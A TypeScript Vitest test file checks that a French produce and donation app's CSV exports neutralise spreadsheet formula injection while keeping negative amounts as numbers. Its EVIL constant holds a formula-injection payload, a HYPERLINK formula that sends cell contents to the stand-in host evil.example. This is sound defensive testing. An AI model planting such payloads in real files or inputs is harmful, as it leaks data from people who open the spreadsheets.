import { randomUUID } from "node:crypto";
import type { LoaderFunctionArgs } from "@remix-run/node";
import { expect, test } from "vitest";
import { db } from "~/db.server";
import { parseCsv } from "~/domain/catalog/import/csv";
import { placeOrder } from "~/domain/ordering/place-order.server";
import { loader as impactCsv } from "~/routes/admin.impact[.]csv";
import { loader as receivedCsv } from "~/routes/association.recus[.]csv";
import { loader as salesSummaryCsv } from "~/routes/producteur.bilan[.]csv";
import { loader as donationSummaryCsv } from "~/routes/producteur.dons.recapitulatif[.]csv";
import { loader as catalogueCsv } from "~/routes/producteur.export[.]csv";
import { action as preparationAction } from "~/routes/producteur.preparation.$distributionId";
import { loader as packingCsv } from "~/routes/producteur.preparation.$distributionId.colisage[.]csv";
import { loader as pickingCsv } from "~/routes/producteur.preparation.$distributionId.cueillette[.]csv";
import { loader as pickupCsv } from "~/routes/producteur.preparation.$distributionId.retrait[.]csv";
import { createDistribution, createMemberUser, createProducerUser, createUser, ensureCategory } from "../factories";
import { createCharity, createPastClaim, createPastLot } from "../factories-donations";
import { get, post } from "../route-requests";
import { readCsv } from "../spreadsheet-csv";

/**
 * Every CSV file the application hands out, read back cell by cell as a spreadsheet reads it:
 * a name that a spreadsheet would run as a formula arrives as text (a leading '), and an amount
 * or a temperature below zero arrives as a number ("-3,60", not "'-3,60"), so the sheet's totals
 * add it up.
 */

const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")';
const PLAIN_NUMBER = /^-?\d+(?:,\d+)?$/;

type Loader = (args: LoaderFunctionArgs) => Promise<unknown>;

async function csvOf(loader: Loader, path: string, cookie: string, params: Record<string, string> = {}): Promise<string[][]> {
  const response = await loader({ request: get(path, cookie), params, context: {} });
  if (!(response instanceof Response)) throw new Error(`${path} : pas une réponse`);
  expect(response.status).toBe(200);
  expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
  expect(response.headers.get("x-content-type-options")).toBe("nosniff");
  return readCsv(await response.text());
}

/** No cell would run as a formula: each is a plain number or does not start like one. */
function expectNoFormula(rows: string[][]): void {
  const dangerous = rows.flat().filter((cell) => !PLAIN_NUMBER.test(cell) && /^[=+\-@\t\r]/.test(cell));
  expect(dangerous).toEqual([]);
}

function expectNeutralised(rows: string[][]): void {
  expectNoFormula(rows);
  expect(rows.flat()).toContain(`'${EVIL}`);
}

test("the catalogue export defuses a product name that is a formula, and reads back into the import unchanged", async () => {
  const producer = await createProducerUser();
  const categoryId = await ensureCategory();
  await db().product.create({
    data: { id: randomUUID(), producerId: producer.producerId, categoryId, name: EVIL, unit: "BUNCH", priceCents: 250, vatRateBp: 550, reference: "EVIL-1" },
  });
  const rows = await csvOf(catalogueCsv, "/producteur/export.csv", producer.cookie);
  expectNeutralised(rows);
  expect(rows.find((row) => row.includes("EVIL-1"))).toContain("2,50");
  const response = await catalogueCsv({ request: get("/producteur/export.csv", producer.cookie), params: {}, context: {} });
  const readBack = parseCsv(await (response as Response).text());
  if (!readBack.ok) throw new Error("illisible");
  expect(readBack.value.records.map((record) => record.cells[readBack.value.header.indexOf("nom")])).toEqual([EVIL]);
});

test("the preparation lists and the sales summary: a formula is text, a weighing below the estimate is a negative number", async () => {
  const distribution = await createDistribution();
  const fisher = await createProducerUser({ name: "Paul Pêcheur" });
  await db().organisation.update({ where: { id: fisher.producerId }, data: { name: `${EVIL} pêche` } });
  const categoryId = await ensureCategory();
  const productId = randomUUID();
  await db().product.create({
    data: { id: productId, producerId: fisher.producerId, categoryId, name: EVIL, unit: "KG", priceCents: 2400, vatRateBp: 550, variableWeight: true },
  });
  const offerId = randomUUID();
  await db().offer.create({ data: { id: offerId, distributionId: distribution.id, productId, priceCents: 2400, stock: 40 } });
  const customer = await createUser({ name: "@Jeanne+Dupont" });
  const order = await placeOrder({ distributionId: distribution.id, lines: [{ offerId, quantity: 2 }], paymentMethod: "at_pickup", customer, now: new Date(), appUrl: "http://localhost" });
  await db().distribution.update({ where: { id: distribution.id }, data: { cutoffAt: new Date(Date.now() - 60_000) } });
  const line = await db().orderLine.findFirstOrThrow({ where: { orderId: order.id }, select: { id: true } });
  // 2 kg ordered, 1,85 kg weighed: 0,15 kg × 24 € = 3,60 € less.
  await preparationAction({ request: post(`/producteur/preparation/${distribution.id}`, { intent: "weigh", lineId: line.id, weight: "1,85" }, fisher.cookie), params: { distributionId: distribution.id }, context: {} });

  const params = { distributionId: distribution.id };
  for (const [loader, name] of [[pickingCsv, "cueillette"], [packingCsv, "colisage"], [pickupCsv, "retrait"]] as const) {
    const rows = await csvOf(loader, `/producteur/preparation/${distribution.id}/${name}.csv`, fisher.cookie, params);
    expectNoFormula(rows);
    expect(rows.flat().some((cell) => cell.startsWith(`'${EVIL}`))).toBe(true);
  }
  const pickup = await csvOf(pickupCsv, `/producteur/preparation/${distribution.id}/retrait.csv`, fisher.cookie, params);
  expect(pickup.flat()).toContain("'@Jeanne+Dupont");

  const day = new Intl.DateTimeFormat("en-CA", { timeZone: "Europe/Paris", year: "numeric", month: "2-digit", day: "2-digit" }).format(distribution.startsAt);
  const summary = await csvOf(salesSummaryCsv, `/producteur/bilan.csv?du=${day}&au=${day}`, fisher.cookie);
  expectNoFormula(summary);
  const header = summary[0] ?? [];
  const weighing = header.indexOf("Ajustement à la pesée (€)");
  const ours = summary.find((row) => row[2] === `'${EVIL} pêche`);
  expect(ours?.[weighing]).toBe("-3,60");
  expect(summary.at(-1)?.[weighing]).toBe("-3,60");
});

test("the donation files: the donor's summary, the charity's received donations and the impact defuse formulas; a frozen temperature stays a number", async () => {
  const donor = await createProducerUser();
  await db().organisation.update({ where: { id: donor.producerId }, data: { name: EVIL } });
  const charity = await createCharity({ name: `+${randomUUID().slice(0, 6)} solidaire` });
  const admin = await createMemberUser("ADMIN");
  const lot = await createPastLot({ donorId: donor.producerId, createdById: donor.user.id, productName: EVIL, storage: "FROZEN" });
  await createPastClaim({ lotId: lot.id, charityId: charity.id, claimedById: charity.user.id, temperatureDeciC: -180 });

  const summary = await csvOf(donationSummaryCsv, "/producteur/dons/recapitulatif.csv?annee=2025", donor.cookie);
  expectNeutralised(summary);
  expect(summary.flat()).toContain(`'${charity.name}`);

  const received = await csvOf(receivedCsv, "/association/recus.csv?annee=2025", charity.cookie);
  expectNeutralised(received);
  const header = received[0] ?? [];
  expect(received[1]?.[header.indexOf("Température (°C)")]).toBe("-18");

  const impact = await csvOf(impactCsv, "/admin/impact.csv?annee=2025", admin.cookie);
  expectNeutralised(impact);
});
